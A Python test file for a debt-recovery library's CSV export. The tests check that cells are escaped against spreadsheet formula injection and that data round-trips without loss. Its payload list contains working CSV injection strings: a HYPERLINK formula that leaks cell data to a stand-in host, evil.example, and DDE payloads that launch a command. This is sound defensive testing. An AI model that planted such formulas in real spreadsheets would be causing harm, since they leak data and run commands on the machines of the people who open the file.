"""CSV exports: safe to open in a spreadsheet (no formula injection) and lossless."""

from __future__ import annotations

import csv
import io
from decimal import Decimal
from pathlib import Path
from typing import Any

import attrs
import pendulum
import pytest
from hypothesis import assume, given, settings
from hypothesis import strategies as st

from recouvrement.errors import InvalidData, InvalidType
from recouvrement.events import Channel
from recouvrement.interest import amounts_due
from recouvrement.io.csv_ledger import read_claims_csv, write_claims_csv
from recouvrement.io.errors import LedgerError, RowError
from recouvrement.io.export import (
    neutralise_cell,
    read_rows_csv,
    restore_cell,
    row_cells,
    write_rows_csv,
)
from recouvrement.kpi.aging import AgingBalance, aging
from recouvrement.money import Money
from recouvrement.sample import load_sample, sample_claim

# Payloads from the OWASP "CSV Injection" page and common variants.
OWASP_PAYLOADS = [
    "=1+2",
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "=cmd|' /C calc'!A0",
    "+1+2",
    "-1+2",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+2",
    "\r=1+2",
    "-2+3+cmd|' /C calc'!A0",
]


def _spreadsheet_view(text: str) -> list[list[str]]:
    """The raw cells a spreadsheet would see (before it interprets them)."""
    return list(csv.reader(io.StringIO(text)))


@pytest.mark.parametrize("payload", OWASP_PAYLOADS)
def test_formula_payloads_are_neutralised(payload: str) -> None:
    out = io.StringIO()
    write_rows_csv([{"debtor": payload, "note": "ok"}], out)
    _, row = _spreadsheet_view(out.getvalue())
    assert row[0] == "'" + payload
    assert row[0][0] == "'"
    out.seek(0)
    assert list(read_rows_csv(out)) == [{"debtor": payload, "note": "ok"}]


@pytest.mark.parametrize("number", ["-12.50", "+3", "-0", "12", "-1000000.0001"])
def test_numbers_stay_numbers(number: str) -> None:
    out = io.StringIO()
    write_rows_csv([{"balance": number, "as_decimal": Decimal(number)}], out)
    _, row = _spreadsheet_view(out.getvalue())
    assert row[0] == number
    assert row[1] == str(Decimal(number))


def test_negative_money_is_a_plain_number() -> None:
    cells = row_cells({"total": Money("-12.50")})
    assert cells == {"total.amount": "-12.50", "total.currency": "EUR"}
    out = io.StringIO()
    write_rows_csv([{"total": Money("-12.50")}], out)
    assert out.getvalue().splitlines()[1] == "-12.50,EUR"


def test_headers_are_neutralised_too() -> None:
    out = io.StringIO()
    write_rows_csv([{"=evil": "1"}], out)
    assert out.getvalue().splitlines()[0] == "'=evil"
    out.seek(0)
    assert list(read_rows_csv(out)) == [{"=evil": "1"}]


def test_claims_csv_neutralises_text_cells() -> None:
    claim = sample_claim()
    hostile = attrs.evolve(
        claim,
        debtor=attrs.evolve(claim.debtor, name='=HYPERLINK("http://x")'),
        reference="@SUM(A1)",
    )
    out = io.StringIO()
    write_claims_csv([hostile], out)
    header, row = _spreadsheet_view(out.getvalue())
    cells = dict(zip(header, row, strict=True))
    assert cells["debtor_name"].startswith("'=")
    assert cells["reference"] == "'@SUM(A1)"
    assert cells["amount"] == "1500.00"
    assert all(not c or c[0] not in "=+-@\t\r" for c in row)
    out.seek(0)
    assert read_claims_csv(out).claims == (hostile,)


@given(st.text())
def test_neutralise_is_reversible_and_safe(text: str) -> None:
    safe = neutralise_cell(text)
    assert restore_cell(safe) == text
    if safe and safe[0] in "=+-@\t\r":
        assert Decimal(safe) == Decimal(text)  # only plain numbers keep a sign in front


_keys = st.text(alphabet="abcdefghij_", min_size=1, max_size=6)
_values: st.SearchStrategy[Any] = st.one_of(
    st.none(),
    st.text(),
    st.integers(),
    st.decimals(allow_nan=False, allow_infinity=False, places=4),
    st.booleans(),
    st.dates().map(lambda d: pendulum.Date(d.year, d.month, d.day)),
    st.sampled_from(list(Channel)),
    st.lists(st.text(max_size=5), max_size=3),
)


@settings(max_examples=100, deadline=None)
@given(st.lists(st.dictionaries(_keys, _values, max_size=5), min_size=1, max_size=6))
def test_rows_round_trip_without_loss(rows: list[dict[str, Any]]) -> None:
    columns = sorted({c for row in rows for c in row_cells(row)})
    assume(columns)
    out = io.StringIO()
    assert write_rows_csv(rows, out, columns) == len(rows)
    out.seek(0)
    back = list(read_rows_csv(out))
    expected = [{c: row_cells(row).get(c, "") for c in columns} for row in rows]
    assert back == expected


def test_records_with_to_dict_round_trip(tmp_path: Path) -> None:
    sample = load_sample()
    records = [amounts_due(c, as_of=sample.as_of) for c in sample.claims[:20]]
    path = tmp_path / "amounts.csv"
    write_rows_csv(records, path)
    back = list(read_rows_csv(path))
    assert back == [row_cells(r) for r in records]
    assert back[0]["claim_id"] == "S-00001"
    assert back[0]["total.currency"] == "EUR"


def test_aging_rows_round_trip(tmp_path: Path) -> None:
    sample = load_sample()
    balance = aging(sample.claims, as_of=sample.as_of)
    assert isinstance(balance, AgingBalance)  # one currency
    rows = [
        {"bucket": label, "balance": money}
        for label, money in (("not due", balance.not_due), *balance.buckets)
    ]
    path = tmp_path / "aging.csv"
    write_rows_csv(rows, path, ["bucket", "balance.amount", "balance.currency"])
    back = list(read_rows_csv(path))
    assert [r["bucket"] for r in back] == ["not due", "1-30", "31-60", "61-90", ">90"]
    rebuilt = [Money(r["balance.amount"], r["balance.currency"]) for r in back]
    assert rebuilt == [balance.not_due, *(m for _, m in balance.buckets)]
    assert sum(rebuilt) == balance.total


def test_load_errors_export_round_trip() -> None:
    errors = [RowError(source="a.csv", line=3, column="amount", value="=1+2", message="bad")]
    out = io.StringIO()
    write_rows_csv(errors, out)
    out.seek(0)
    assert list(read_rows_csv(out)) == [row_cells(errors[0])]


def test_nothing_is_dropped_or_inexact() -> None:
    with pytest.raises(InvalidData):
        write_rows_csv([{"a": "1"}, {"a": "2", "b": "3"}], io.StringIO())
    with pytest.raises(InvalidType):
        write_rows_csv([{"rate": 0.1}], io.StringIO())
    with pytest.raises(InvalidType):
        row_cells(object())
    with pytest.raises(InvalidData):
        write_rows_csv([], io.StringIO(), ["a", "a"])
    with pytest.raises(InvalidData):
        write_rows_csv([{}], io.StringIO())
    with pytest.raises(LedgerError):
        list(read_rows_csv(io.StringIO("a,b\r\n1\r\n")))


def test_a_missing_column_is_left_empty_and_columns_may_be_given() -> None:
    out = io.StringIO()
    write_rows_csv([{"a": "1"}], out, ["a", "b"])
    out.seek(0)
    assert list(read_rows_csv(out)) == [{"a": "1", "b": ""}]
    assert write_rows_csv([], io.StringIO()) == 0
